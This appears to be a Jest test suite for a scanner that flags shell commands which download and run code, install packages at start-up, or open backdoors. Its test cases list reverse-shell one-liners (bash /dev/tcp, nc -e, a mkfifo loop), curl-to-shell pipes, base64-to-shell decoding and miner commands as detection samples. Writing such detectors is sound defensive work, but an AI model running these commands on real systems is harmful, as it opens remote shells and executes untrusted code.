import { describe, expect, test } from "@jest/globals";
import { backdoorsIn, downloadsIn, installsIn } from "../../../src/text/shell.js";

describe("downloads that are run", () => {
  test.each([
    "curl -fsSL https://get.example.com | sh",
    "wget -qO- https://get.example.com | sudo -E bash -",
    "curl https://get.example.com | tee install.sh | /bin/bash",
    "curl https://get.example.com | python3 -",
    'sh -c "$(curl -fsSL https://get.example.com)"',
    "bash <(curl -s https://get.example.com)",
    "source <(curl -s https://get.example.com)",
    "eval `wget -qO- https://get.example.com`",
    "git clone https://git.example.com/a.git",
    "git clone -b main https://git.example.com/a.git",
    "git -C /src clone --branch=release-1.2 https://git.example.com/a.git",
  ])("%s", (command) => {
    expect(downloadsIn(command)).toHaveLength(1);
  });

  test.each([
    "curl -fsS https://example.com/a.json | jq .",
    "curl https://example.com/a.sh > a.sh",
    "curl https://example.com/health; sh run.sh",
    "curl https://example.com | grep bash",
    "curl https://example.com | sha256sum -c",
    "curl https://example.com | python3 -m json.tool",
    "curl https://example.com | perl -ne 'print'",
    'echo "$(curl https://example.com)" > page',
    "git clone -b v1.2.3 https://git.example.com/a.git",
    "git clone -b $BRANCH https://git.example.com/a.git",
    "git clone https://git.example.com/a.git && git -C a checkout 3f1c9c0b",
    'git clone https://git.example.com/a.git && cd a && git checkout "${VERSION}"',
  ])("not %s", (command) => {
    expect(downloadsIn(command)).toEqual([]);
  });
});

describe("packages that are installed at the start", () => {
  test.each([
    "pip install flask",
    "sh -c pip3.11 install --upgrade pip && flask run",
    "apk add --no-cache curl; run",
    "apk --no-cache add curl",
    "apt-get update && apt-get -y install curl",
    "npm ci && node server.js",
  ])("%s", (command) => {
    expect(installsIn(command)).toHaveLength(1);
  });

  test.each([
    "pip install --no-index /wheels",
    "npm start",
    "npm run install-all",
    "/app/pip-server --install x",
  ])("not %s", (command) => {
    expect(installsIn(command)).toEqual([]);
  });
});

describe("backdoors", () => {
  test.each([
    "sh -i >& /dev/udp/203.0.113.7/53 0>&1",
    "bash -c 'bash -i &> /dev/tcp/203.0.113.7/53 <&1'",
    "ncat 203.0.113.7 4444 -e /bin/bash",
    "nc -lvpe /bin/sh -p 4444",
    "nc --exec /bin/sh 203.0.113.7",
    "mkfifo /tmp/f; nc 203.0.113.7 1 < /tmp/f | sh > /tmp/f; cat x | nc y",
    "exec 5<>/dev/tcp/203.0.113.7/80",
    "echo aGk= | base64 -D | /bin/sh",
    "echo aGk= | base64 --decode | sudo python3",
    "./minerd -a x",
    "run -o stratum+ssl://pool.example.com",
  ])("%s", (command) => {
    expect(backdoorsIn(command).length).toBeGreaterThan(0);
  });

  test.each([
    "timeout 1 bash -c '</dev/tcp/db/5432'",
    "(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
    "exec 3<>/dev/tcp/localhost/8080",
    "nc -z -w 1 db 5432",
    "nc -e",
    "echo $X | base64 -d > file; sh run.sh",
    "mkfifo /tmp/f; tail -f /tmp/f",
    "echo minerdata xmrigger",
    "sh -i",
  ])("not %s", (command) => {
    expect(backdoorsIn(command)).toEqual([]);
  });
});

test.each([
  "curl ",
  "curl | ",
  "git clone -b x ",
  "nc -e ",
  "base64 -d ",
  "mkfifo | nc ",
  "sh -c $(",
  "pip install ",
  "x".repeat(10),
])("%s a hundred thousand times takes seconds at most", (piece) => {
  const text = piece.repeat(100_000);
  const started = performance.now();

  downloadsIn(text);
  installsIn(text);
  backdoorsIn(text);

  expect(performance.now() - started).toBeLessThan(15_000);
});
